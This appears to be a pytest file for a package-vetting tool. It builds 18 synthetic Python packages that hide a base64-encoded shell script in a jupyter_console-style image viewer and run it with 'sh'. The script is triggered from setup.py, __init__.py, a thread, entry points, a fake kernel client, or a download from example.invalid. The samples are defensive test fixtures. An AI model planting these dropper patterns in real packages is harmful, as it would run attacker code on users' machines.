"""A caller's picture handed to a viewer a setting spells, and the attacker's ways to hand it
the package's own bytes and templates instead (issue 16; ADRs 0139, 0158).

jupyter_console base64-decodes a picture a kernel message carries, writes it to a temporary
file and runs the viewer its user configured (``[s.format(**fmt) for s in
self.tempfile_image_handler]``). It is denied: decoded data written and named by a process
call is a dropper. ADR 0139's ``fielded.py`` made that shape no dropper in a function walked
alone, and was taken out in review because another module of the package could hand the
function its own templates or its own base64 script. These samples pin what ``main`` does
with each way of doing so: templates from another module (a constant, a class attribute, a
traitlets configuration), the payload handed from ``setup.py``, ``__init__.py``, a console
entry point, a thread, a module constant, a download, or returned by the package's own
"kernel client" read the way jupyter_console reads a message.

Session 35 looked again (ADR 0158 now follows a call with what its arguments carry). The
import- and install-time shapes (``__init__.py``, ``setup.py``, a thread started on import)
are denied by the cross-file pass itself now, with or without the viewer's own dropper. The
others run later (a console command, a function of another module), which no pass follows,
and jupyter_console's own caller chain cannot be told from an attacker's: its picture comes
through ``getattr(self, 'handle_image_{0}'.format(...))`` from ``self.client``'s message,
and ``client=self.kernel_client`` is set by jupyter_client's ``JupyterConsoleApp`` from the
``kernel_client_class`` trait, which the package itself may set to a class of its own
(``app-gives-jupyter-client-the-packages-client-class``). A rule that allows
jupyter_console allows that sample, so the viewer's dropper stays. ``fielded.py`` restored
on ``23a9be4`` allows 14 of these 18 samples: all but the four run on import or install.

Every sample is inert (vetting only reads files): the payload is :data:`adversary.CURL`
base64-encoded, and nothing is run."""

from __future__ import annotations

import base64

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import CURL, verdict_cases, vet_package

B64 = base64.b64encode(f"#!/bin/sh\n{CURL}\n".encode()).decode()
MIME = "image/png"
PICTURE = f"{{{MIME!r}: {B64!r}}}"  # what a kernel message's ``data`` holds

# jupyter_console's ptshell, cut down: a message's pictures handed by a handler a setting
# names (``getattr`` with a computed name) to ``handle_image_tempfile``.
SHELL = (
    "import base64, os, subprocess, sys, threading, urllib.request\n"
    "from tempfile import TemporaryDirectory\n\n"
    "from traitlets import Any, Enum, List\n{imports}\n\n"
    "class Shell:\n"
    "    image_handler = Enum(('PIL', 'stream', 'tempfile'), 'PIL', config=True)\n"
    "{attrs}"
    "    client = Any()\n\n"
    "    def handle_iopub(self):\n"
    "        sub_msg = self.client.iopub_channel.get_msg()\n"
    "        self.handle_rich_data(sub_msg['content']['data'])\n\n"
    "    def handle_rich_data(self, data):\n"
    "        for mime in ('image/png', 'image/jpeg'):\n"
    "            if mime in data and self.handle_image(data, mime):\n"
    "                return True\n"
    "        return False\n\n"
    "    def handle_image(self, data, mime):\n"
    "        handler = getattr(self, 'handle_image_{{0}}'.format(self.image_handler), None)\n"
    "        if handler:\n"
    "            return handler(data, mime)\n\n"
    "    def handle_image_tempfile(self, data, mime):\n"
    "        raw = {data}\n"
    "        with TemporaryDirectory() as tempdir:\n"
    "            path = os.path.join(tempdir, 'tmp.png')\n"
    "            with open(path, 'wb') as f:\n"
    "                f.write(raw)\n"
    "            fmt = dict(file=path, format='png')\n"
    "            args = {templates}\n"
    "            return subprocess.call(args, stdout=subprocess.DEVNULL)\n"
)
HANDLER = (
    "    tempfile_image_handler = List(config=True, help='the viewer: {file} is the picture')\n"
)
DECODED = "base64.decodebytes(data[mime].encode('ascii'))"
TEMPLATES = "[s.format(**fmt) for s in self.tempfile_image_handler]"
CONF = "TEMPLATES = ['sh', '{file}']\n"
SETUP = "from setuptools import setup\nsetup(name='evpkg', packages=['evpkg'])\n"
ENTRY = "[console_scripts]\nevpkg = evpkg.cli:main\n"
INFO = "evpkg-1.0.dist-info/entry_points.txt"


def shell(
    imports: str = "",
    attrs: str = HANDLER,
    data: str = DECODED,
    templates: str = TEMPLATES,
    init: str = "",
    more: dict[str, str] | None = None,
) -> dict[str, str]:
    """The package: ``evpkg/shell.py`` (:data:`SHELL`), ``__init__.py`` holding ``init``,
    and ``more`` files."""
    text = SHELL.format(imports=imports, attrs=attrs, data=data, templates=templates)
    return {"evpkg/__init__.py": init, "evpkg/shell.py": text, **(more or {})}


def cli(body: str, imports: str = "from evpkg.shell import Shell\n") -> str:
    """``evpkg/cli.py`` whose ``main`` (a console entry point) runs ``body``."""
    return f"import base64, threading, urllib.request\n{imports}\n\ndef main():\n{body}"


SHOW = f"    Shell().handle_image_tempfile({PICTURE}, {MIME!r})\n"
IMPORTED = "from evpkg.conf import TEMPLATES\n"
# The package's own "kernel client": a message whose picture is the package's script.
KERNEL = (
    "class Channel:\n"
    "    def get_msg(self):\n"
    "        return {'header': {'msg_type': 'display_data'},\n"
    f"                'content': {{'data': {PICTURE}}}}}\n"
    "\n\nclass Client:\n    iopub_channel = Channel()\n"
)

# jupyter_console's app: ``JupyterConsoleApp.initialize`` (jupyter_client) makes
# ``self.kernel_client`` from the ``kernel_client_class`` trait, and the shell is handed it.
APP = (
    "from jupyter_client.consoleapp import JupyterConsoleApp\n"
    "from jupyter_core.application import JupyterApp\n\n"
    "from evpkg.kernel import Client\nfrom evpkg.shell import Shell\n\n\n"
    "class App(JupyterApp, JupyterConsoleApp):\n"
    "    classes = [Shell]\n"
    "    kernel_client_class = Client\n\n"
    "    def init_shell(self):\n"
    "        JupyterConsoleApp.initialize(self)\n{config}"
    "        self.shell = Shell.instance(parent=self, client=self.kernel_client)\n"
    "        self.shell.handle_iopub()\n\n\n"
    "main = App.launch_instance\n"
)
CONFIGURED = (
    "        kind = self.config.Shell.image_handler = 'tempfile'\n"
    "        self.config.Shell[kind + '_image_handler'] = ['sh', '{{file}}']\n"
)
FROM_CONF = {
    "imports": IMPORTED,
    "templates": "[s.format(**fmt) for s in TEMPLATES]",
}
CLIENT = "from evpkg.shell import Shell\nfrom evpkg.kernel import Client\n"

DENIED: dict[str, dict[str, str]] = {
    # jupyter_console's own shape (the near-miss main denies).
    "viewer-configured-for-a-kernels-picture": shell(),
    # (a) The templates imported from another module of the package, when called.
    "templates-imported-from-another-module": shell(**FROM_CONF, more={"evpkg/conf.py": CONF}),
    "templates-a-sibling-modules-constant": shell(
        imports="from evpkg import conf\n",
        templates="[s.format(**fmt) for s in conf.TEMPLATES]",
        more={"evpkg/conf.py": CONF},
    ),
    "templates-a-class-attribute-of-another-module": {
        **shell(imports="from evpkg.base import Base\n", attrs=""),
        "evpkg/shell.py": shell(imports="from evpkg.base import Base\n", attrs="")[
            "evpkg/shell.py"
        ].replace("class Shell:", "class Shell(Base):"),
        "evpkg/base.py": "class Base:\n    tempfile_image_handler = ['sh', '{file}']\n",
    },
    # (b) The package's own __init__.py shows its base64 script on import.
    "init-shows-a-base64-script-on-import": shell(
        **FROM_CONF,
        init=f"from .shell import Shell\nShell().handle_image_tempfile({PICTURE}, {MIME!r})\n",
        more={"evpkg/conf.py": CONF},
    ),
    "init-shows-it-through-the-dispatcher": shell(
        init="from .shell import Shell\nshell = Shell()\nshell.image_handler = 'tempfile'\n"
        "shell.tempfile_image_handler = ['sh', '{file}']\n"
        f"shell.handle_rich_data({PICTURE})\n"
    ),
    # The payload handed from setup.py, on install.
    "setup-shows-a-base64-script": shell(
        **FROM_CONF,
        more={
            "evpkg/conf.py": CONF,
            "setup.py": "from evpkg.shell import Shell\n"
            f"Shell().handle_image_tempfile({PICTURE}, {MIME!r})\n" + SETUP,
        },
    ),
    # From a console entry point, when its command runs.
    "entry-point-shows-a-base64-script": shell(more={"evpkg/cli.py": cli(SHOW), INFO: ENTRY}),
    "entry-point-shows-it-with-the-packages-templates": shell(
        **FROM_CONF, more={"evpkg/conf.py": CONF, "evpkg/cli.py": cli(SHOW), INFO: ENTRY}
    ),
    # From a thread started on import.
    "thread-target-shows-a-base64-script": shell(
        init="import threading\nfrom .shell import Shell\n"
        "threading.Thread(target=Shell().handle_image_tempfile, "
        f"args=({PICTURE}, {MIME!r})).start()\n"
    ),
    # A payload written in the code of another module, passed in by a function run later.
    "payload-a-constant-of-another-module": shell(
        more={
            "evpkg/blob.py": f"PICTURE = {PICTURE}\n",
            "evpkg/cli.py": cli(
                f"    Shell().handle_image_tempfile(PICTURE, {MIME!r})\n",
                imports="from evpkg.shell import Shell\nfrom evpkg.blob import PICTURE\n",
            ),
        }
    ),
    # A payload downloaded in another module and passed in.
    "payload-downloaded-in-another-module": shell(
        more={
            "evpkg/cli.py": cli(
                "    text = urllib.request.urlopen('https://example.invalid/p').read().decode()\n"
                f"    Shell().handle_image_tempfile({{{MIME!r}: text}}, {MIME!r})\n"
            )
        }
    ),
    # The method looked up by a computed name, and handed the payload.
    "dynamic-lookup-shows-a-base64-script": shell(
        more={
            "evpkg/cli.py": cli(
                f"    getattr(Shell(), 'handle_image_' + 'tempfile')({PICTURE}, {MIME!r})\n"
            )
        }
    ),
    # jupyter_console's caller chain exactly, the kernel client being the package's own class:
    # its message's picture is the package's base64 script.
    "the-packages-own-client-hands-its-script": shell(
        more={
            "evpkg/kernel.py": KERNEL,
            "evpkg/cli.py": cli(
                "    shell = Shell(client=Client(), image_handler='tempfile')\n"
                "    shell.handle_iopub()\n",
                imports=CLIENT,
            ),
        }
    ),
    # The same, with the templates set by a name the package computes (as jupyter_console's
    # own test does: ``setattr(shell, '{0}_image_handler'.format(handler), cmd)``).
    "the-packages-client-and-templates-by-a-computed-name": shell(
        more={
            "evpkg/kernel.py": KERNEL,
            "evpkg/cli.py": cli(
                "    shell = Shell(client=Client(), image_handler='tempfile')\n"
                "    kind = shell.image_handler\n"
                "    setattr(shell, '{0}_image_handler'.format(kind), ['sh', '{file}'])\n"
                "    shell.handle_iopub()\n",
                imports=CLIENT,
            ),
        }
    ),
    # jupyter_console's own app, its text unchanged (``client=self.kernel_client``, a name
    # the package never sets), with the package's client class given to jupyter_client as
    # ``kernel_client_class``: the outside base class makes ``kernel_client`` from it.
    "app-gives-jupyter-client-the-packages-client-class": shell(
        more={"evpkg/kernel.py": KERNEL, "evpkg/app.py": APP.format(config="")}
    ),
    # The same, the templates set through the traitlets configuration by a computed key.
    "app-configures-the-templates-by-a-computed-key": shell(
        more={"evpkg/kernel.py": KERNEL, "evpkg/app.py": APP.format(config=CONFIGURED)}
    ),
    # The data an attribute another module sets, not a parameter.
    "payload-an-attribute-set-elsewhere": shell(
        **FROM_CONF,
        data="base64.decodebytes(self.picture.encode('ascii'))",
        more={
            "evpkg/conf.py": CONF,
            "evpkg/cli.py": cli(
                f"    shell = Shell()\n    shell.picture = {B64!r}\n"
                f"    shell.handle_image_tempfile({{}}, {MIME!r})\n"
            ),
        },
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, {}))
def test_handed_viewer_shapes(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
